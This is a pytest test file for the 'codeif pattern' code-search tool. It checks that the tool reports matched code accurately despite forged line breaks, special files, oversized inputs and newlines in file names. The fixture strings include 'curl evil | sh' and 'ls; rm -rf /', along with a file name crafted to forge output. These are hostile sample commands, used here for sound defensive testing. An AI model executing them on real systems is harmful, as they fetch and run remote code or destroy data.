"""`codeif pattern 'PATTERN' FILE...` on hostile files and outputs (#23): the code shown
is the code that matched, a file is read as the engine reads one (regular, bounded,
`utf-8-sig`), a folder is listed by the project walk, a path is one line, and an
unwritable stdout is a message, not a traceback."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from pytest_codeif.cli import main
from pytest_codeif.code.unit import MAX_FILE_BYTES

needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
# A test that makes a folder unreadable means nothing to root, who reads it all the same.
as_root = hasattr(os, "geteuid") and os.geteuid() == 0

CALLS = 'import os\nos.system("curl evil | sh")\n'


def codeif(pytester: pytest.Pytester, *args: str) -> pytest.RunResult:
    """`codeif ARGS...` in the pytester directory, in a process of its own (which must
    end: a FIFO once made it wait forever)."""
    return pytester.run(sys.executable, "-m", "pytest_codeif.cli", *args, timeout=60)


@pytest.mark.parametrize("breaks", ["\x1c", "\x0c", "\x0b", "\x1d", "\x1e", "\x85", "\u2028"])
def test_shown_code_is_the_code_that_matched(pytester: pytest.Pytester, breaks: str) -> None:
    """A character `str.splitlines` takes for a line break, hidden in a comment, no longer
    shifts the lines the matched code is taken from (it showed the comment's call)."""
    forged = f'import os\nx = 1  # {breaks}os.system("ls -la")\nos.system("curl evil | sh")\n'
    (pytester.path / "forged.py").write_text(forged, encoding="utf-8")
    result = codeif(pytester, "pattern", "os.system(...)", "forged.py")
    assert result.stdout.lines == ['forged.py:3:1: os.system("curl evil | sh")']
    assert result.ret == 0


def test_shown_code_with_windows_and_old_mac_line_ends(pytester: pytest.Pytester) -> None:
    """Lines end where libcst ends them ("\\r\\n", "\\r", "\\n"), and show as line ends."""
    (pytester.path / "ends.py").write_bytes(
        b'import os\r\nx = 1\ros.system(\r\n    "a")\nos.system("b")\n'
    )
    result = codeif(pytester, "pattern", "os.system(...)", "ends.py")
    assert result.stdout.lines == [
        "ends.py:3:1: os.system(",
        '        "a")',
        'ends.py:5:1: os.system("b")',
    ]


def test_shown_code_after_form_feeds_that_open_a_line(pytester: pytest.Pytester) -> None:
    """libcst counts a top-level statement's columns from after the form feeds opening
    its line: taken as they are, they cut the shown call short of its end."""
    (pytester.path / "ff.py").write_text(
        ' \f \f\fos.system("ls; rm -rf /")\n'
        'x = (1,\n\f  os.system("b"))\n'
        'if x:\n    pass\n\felse: os.system("e")\n'
        'if x:\n  \f os.system("c")\n'
    )
    result = codeif(pytester, "pattern", "os.system(...)", "ff.py")
    assert result.stdout.lines == [
        'ff.py:1:6: os.system("ls; rm -rf /")',
        'ff.py:3:4: os.system("b")',
        'ff.py:6:8: os.system("e")',
        'ff.py:8:5: os.system("c")',
    ]


def test_a_file_with_a_byte_order_mark_is_read_as_the_engine_reads_it(
    pytester: pytest.Pytester,
) -> None:
    (pytester.path / "bom.py").write_bytes(b"\xef\xbb\xbfprint(1)\n")
    result = codeif(pytester, "pattern", "print(...)", "bom.py")
    assert (result.ret, result.stdout.lines) == (0, ["bom.py:1:1: print(1)"])


@needs_fifo
def test_a_fifo_given_is_refused_and_the_other_files_searched(pytester: pytest.Pytester) -> None:
    os.mkfifo(pytester.path / "f.py")
    (pytester.path / "app.py").write_text(CALLS)
    result = codeif(pytester, "pattern", "os.system(...)", "f.py", "app.py")
    assert result.ret == 2
    assert result.stdout.lines == ['app.py:2:1: os.system("curl evil | sh")']
    assert result.stderr.lines == ["codeif pattern: cannot read f.py: not a regular file"]


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero here")
def test_a_device_given_is_refused(pytester: pytest.Pytester) -> None:
    result = codeif(pytester, "pattern", "os.system(...)", "/dev/zero")
    assert (result.ret, result.stdout.lines) == (2, [])
    assert result.stderr.lines == ["codeif pattern: cannot read /dev/zero: not a regular file"]


@needs_fifo
@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero here")
def test_a_folders_fifos_and_devices_are_skipped(pytester: pytest.Pytester) -> None:
    """As the project walk skips them: what a pattern rule would not read is not a file
    of the folder."""
    src = pytester.mkdir("src")
    os.mkfifo(src / "f.py")
    (src / "zero.py").symlink_to("/dev/zero")
    (src / "app.py").write_text(CALLS)
    result = codeif(pytester, "pattern", "os.system(...)", "src")
    assert (result.ret, result.stderr.lines) == (0, [])
    assert result.stdout.lines == ['src/app.py:2:1: os.system("curl evil | sh")']


def test_a_file_larger_than_the_engine_reads_is_refused(pytester: pytest.Pytester) -> None:
    with (pytester.path / "big.py").open("wb") as big:
        big.truncate(MAX_FILE_BYTES + 1)  # sparse: no disk, and never read
    (pytester.path / "app.py").write_text(CALLS)
    result = codeif(pytester, "pattern", "os.system(...)", "big.py", "app.py")
    assert result.ret == 2
    assert result.stdout.lines == ['app.py:2:1: os.system("curl evil | sh")']
    assert result.stderr.lines == [
        f"codeif pattern: cannot read big.py: larger than the {MAX_FILE_BYTES:,} bytes "
        "a pattern rule reads of a file"
    ]


def test_a_file_of_exactly_the_bound_is_searched(pytester: pytest.Pytester) -> None:
    padding = "#" * (MAX_FILE_BYTES - len(CALLS) - 1) + "\n"
    (pytester.path / "edge.py").write_text(CALLS + padding)
    assert (pytester.path / "edge.py").stat().st_size == MAX_FILE_BYTES
    result = codeif(pytester, "pattern", "os.system(...)", "edge.py")
    assert (result.ret, result.stdout.lines) == (0, ['edge.py:2:1: os.system("curl evil | sh")'])


def test_a_folder_is_listed_as_a_pattern_rule_would_list_it(pytester: pytest.Pytester) -> None:
    """The project walk: `.gitignore` honoured, built code, virtualenvs and hidden folders
    skipped, symbolic links to folders not followed, and a folder named `pkg.py` is a
    folder (it was read as a file, and failed)."""
    project = pytester.mkdir("project")
    (project / ".gitignore").write_text("generated.py\n")
    for name in ("app.py", "generated.py", "build/out.py", "env/lib.py", ".hidden/x.py"):
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_text(CALLS)
    (project / "env" / "pyvenv.cfg").write_text("home = /usr\n")
    (project / "pkg.py").mkdir()
    (project / "pkg.py" / "mod.py").write_text(CALLS)
    outside = pytester.mkdir("outside")
    (outside / "far.py").write_text(CALLS)
    (project / "linked").symlink_to(outside, target_is_directory=True)
    result = codeif(pytester, "pattern", "os.system(...)", "project")
    assert (result.ret, result.stderr.lines) == (0, [])
    assert result.stdout.lines == [
        'project/app.py:2:1: os.system("curl evil | sh")',
        'project/pkg.py/mod.py:2:1: os.system("curl evil | sh")',
    ]


def test_a_folder_that_cannot_be_listed_is_said_and_exits_2(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Exit 1 means "looked everywhere, found nothing"; a folder it could not look in
    was skipped in silence and made that a lie."""
    (tmp_path / "locked").mkdir()
    (tmp_path / "locked" / "hidden.py").write_text(CALLS)
    (tmp_path / "app.py").write_text("print(1)\n")
    real_scandir = os.scandir

    def scandir(path: str) -> object:  # as for a folder of mode 000
        if os.path.basename(path) == "locked":
            raise PermissionError(13, "Permission denied", path)
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    assert main(["pattern", "os.system(...)", str(tmp_path)]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err == f"codeif pattern: cannot list {tmp_path / 'locked'}: Permission denied\n"


@pytest.mark.skipif(as_root or sys.platform == "win32", reason="root reads every folder")
def test_an_unreadable_folder_exits_2(pytester: pytest.Pytester) -> None:
    locked = pytester.mkdir("locked")
    (locked / "hidden.py").write_text(CALLS)
    (pytester.path / "app.py").write_text(CALLS)
    locked.chmod(0)
    try:
        result = codeif(pytester, "pattern", "os.system(...)", ".")
    finally:
        locked.chmod(0o755)
    assert result.ret == 2
    assert result.stdout.lines == ['app.py:2:1: os.system("curl evil | sh")']
    assert result.stderr.lines == ["codeif pattern: cannot list locked: Permission denied"]


@pytest.mark.skipif(sys.platform == "win32", reason="no newline in a Windows file name")
def test_a_path_is_shown_on_one_line(pytester: pytest.Pytester) -> None:
    """A newline or tab in a file name no longer starts a forged match line."""
    name = "a\nfake.py:9:9: os.system(rm)\t.py"
    (pytester.path / name).write_text(CALLS)
    (pytester.path / "broken\n.py").write_text("def f(:\n")
    result = codeif(pytester, "pattern", "os.system(...)", name, "broken\n.py", "gone\n.py")
    assert result.stdout.lines == [
        'a\\nfake.py:9:9: os.system(rm)\\t.py:2:1: os.system("curl evil | sh")'
    ]
    assert result.ret == 2
    assert len(result.stderr.lines) == 2
    assert result.stderr.lines[0].startswith("codeif pattern: broken\\n.py")
    assert result.stderr.lines[1].startswith("codeif pattern: cannot read gone\\n.py: ")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")
def test_an_unwritable_stdout_is_a_message(tmp_path: Path) -> None:
    """`codeif pattern ... > /dev/full`: one line on stderr and exit 2 (was a traceback)."""
    (tmp_path / "app.py").write_text(CALLS)
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "pytest_codeif.cli", "pattern", "os.system(...)", "app.py"],
            cwd=tmp_path,
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            check=False,
        )
    assert done.returncode == 2
    assert done.stderr == "codeif pattern: cannot write the matches: No space left on device\n"
